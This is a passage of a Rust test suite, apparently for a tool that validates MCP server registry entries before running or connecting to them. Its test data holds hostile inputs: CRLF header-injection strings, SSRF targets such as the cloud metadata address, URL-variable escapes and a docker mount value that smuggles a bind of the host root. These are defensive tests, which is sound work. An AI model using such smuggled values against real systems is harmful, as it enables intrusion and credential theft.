            "https://evil.example\\@good.example/",
            "https://evil.example/a b",
            "ftp://evil.example/",
            "",
            "//evil.example/mcp",
        ] {
            assert!(of_remote(remote(url), json!({})).is_err(), "{url}");
        }
        for url in [
            "http://169.254.169.254/latest/meta-data",
            "http://192.168.0.1/mcp",
            "http://127.0.0.1:9/mcp",
            "https://router.lan/",
            "http://[::1]/",
        ] {
            let asked = of_remote(remote(url), json!({})).unwrap();
            assert_eq!(
                asked.consents.iter().map(|consent| consent.id.as_str()).collect::<Vec<_>>(),
                ["accept.inside"],
                "{url}"
            );
            let accepted = of_remote(remote(url), json!({ "accept.inside": "yes" })).unwrap();
            assert!(accepted.consents.is_empty());
        }
        let plain = of_remote(remote("http://mcp.example.com/"), json!({})).unwrap();
        assert_eq!(plain.consents[0].id, "accept.unencrypted");
        for (name, value) in [
            ("X\r\nHost", "a"),
            ("X", "a\r\nAuthorization: b"),
            ("Host", "a"),
            ("Mcp-Session-Id", "a"),
            ("Transfer-Encoding", "x"),
            ("", "a"),
        ] {
            let remote = json!({ "type": "sse", "url": "https://evil.example/mcp", "headers": [{ "name": name, "value": value }] });
            assert!(of_remote(remote, json!({})).is_err(), "{name:?}");
        }
        // A header without a value.
        let later = json!({ "type": "sse", "url": "https://evil.example/mcp", "headers": [{ "name": "Host", "isRequired": false }] });
        assert!(of_remote(later, json!({})).is_err());
    }

    #[test]
    fn a_variable_cannot_leave_its_place_in_the_url() {
        let tenant = json!({ "type": "streamable-http", "url": "https://{tenant}.crm.example.com/{team}/mcp",
            "variables": { "tenant": { "isRequired": true }, "team": { "default": "all" } } });
        let good = of_remote(tenant.clone(), json!({ "tenant": "acme", "team": "eu-1.2" })).unwrap();
        assert_eq!(line(&good), "https://acme.crm.example.com/eu-1.2/mcp");
        for wrong in [
            "evil.example/",
            "evil.example#",
            "evil.example?",
            "a@b",
            "..",
            ".",
            "a.b",
            "",
            "-",
            "a b",
            "a:1",
            "ö",
        ] {
            let reviewed = of_remote(tenant.clone(), json!({ "url.tenant": wrong }));
            assert!(
                reviewed.as_ref().is_err() || reviewed.as_ref().unwrap().plan.missing == ["url.tenant"],
                "{wrong}"
            );
        }
        for wrong in ["..", ".", "a/b", "a?b", "a#b", "%2e", "a&b"] {
            assert!(
                of_remote(tenant.clone(), json!({ "tenant": "acme", "team": wrong })).is_err(),
                "{wrong}"
            );
        }
        let package = npm(json!({ "environmentVariables": [
            { "name": "REGION", "default": "eu", "choices": ["eu", "us"] },
            { "name": "PORT", "format": "number" },
            { "name": "ON", "format": "boolean" },
            { "name": "FILE", "format": "filepath" },
            { "name": "DIR", "format": "directory" },
            { "name": "MODE", "choices": ["a", "b"], "default": "c" },
            { "name": "TOKEN", "isSecret": true, "isRequired": true, "default": "hunter2" },
        ] }));
        for wrong in [
            json!({ "REGION": "mars" }),
            json!({ "PORT": "x" }),
            json!({ "ON": "maybe" }),
            json!({ "FILE": "relative" }),
            json!({ "DIR": "relative" }),
            json!({ "GONE": "x" }),
        ] {
            assert!(of_package(package.clone(), wrong.clone()).is_err(), "{wrong}");
        }
        let reviewed = of_package(package.clone(), json!({})).unwrap();
        assert_eq!(reviewed.plan.missing, ["env.TOKEN"], "a default that everybody knows is no credential");
        let Way::Stdio(command) = &reviewed.plan.way else { panic!() };
        assert_eq!(json!(command.env), json!({ "REGION": "eu" }), "a default that cannot be chosen is none");
        assert!(reviewed.inputs.iter().all(|input| input.default.as_deref() != Some("hunter2")));
        let named = of_package(package, json!({ "env.TOKEN": "t", "REGION": "us" })).unwrap();
        assert_eq!(named.plan.secrets, ["env.TOKEN"]);
    }

    #[test]
    fn a_credential_within_an_argument_makes_it_one() {
        let package = json!({ "registryType": "pypi", "identifier": "x-mcp", "version": "1.0.0", "packageArguments": [
            { "type": "positional", "value": "serve" },
            { "type": "named", "name": "--dsn", "isRequired": true, "value": "db://{user}:{password}@localhost/db",
              "variables": { "user": { "default": "me" }, "password": { "isSecret": true, "isRequired": true } } },
            { "type": "named", "name": "--verbose", "value": "" },
        ] });
        let reviewed = of_package(package, json!({ "password": "pw" })).unwrap();
        assert_eq!(line(&reviewed), "uvx x-mcp@1.0.0 serve --dsn db://me:pw@localhost/db --verbose");
        assert_eq!(reviewed.plan.secret_args, [3]);
    }

    #[test]
    fn a_folder_that_a_person_names_may_be_mounted() {
        let package = json!({ "registryType": "oci", "identifier": "docker.io/a/b:1.0", "environmentVariables": [
            { "name": "TOKEN", "isSecret": true, "isRequired": true }], "runtimeArguments": [
            { "type": "named", "name": "--mount", "isRequired": true, "value": "type=bind,src={source},dst=/data,readonly",
              "variables": { "source": { "format": "filepath", "isRequired": true } } }] });
        let reviewed =
            of_package(package.clone(), json!({ "source": "/home/me/notes", "TOKEN": "t" })).unwrap();
        assert_eq!(
            line(&reviewed),
            "docker run -i --rm -e TOKEN --mount type=bind,src=/home/me/notes,dst=/data,readonly docker.io/a/b:1.0"
        );
        assert!(of_package(package, json!({ "source": "/a,dst=/x,type=bind,src=/", "TOKEN": "t" })).is_err());
    }

    #[test]
    fn every_way_has_a_name_and_the_hosted_come_first() {
        let document = document(json!({
            "packages": [npm(json!({})), { "registryType": "oci", "identifier": "ghcr.io/a/b:1" }, { "registryType": "deb", "identifier": "x" }],
            "remotes": [{ "type": "streamable-http", "url": "https://a.example/mcp" }, { "type": "sse", "url": "https://a.example/sse" }],
        }));
        let ids: Vec<String> = ways(&document).into_iter().map(|(id, _)| id).collect();
        assert_eq!(ids, ["remote", "remote-2", "npm", "oci", "other"]);
        let listed = listed(&document);
        assert_eq!((listed[2].runs.as_str(), listed[4].refused.is_some()), ("npm good-mcp@1.0.0", true));
    }
}
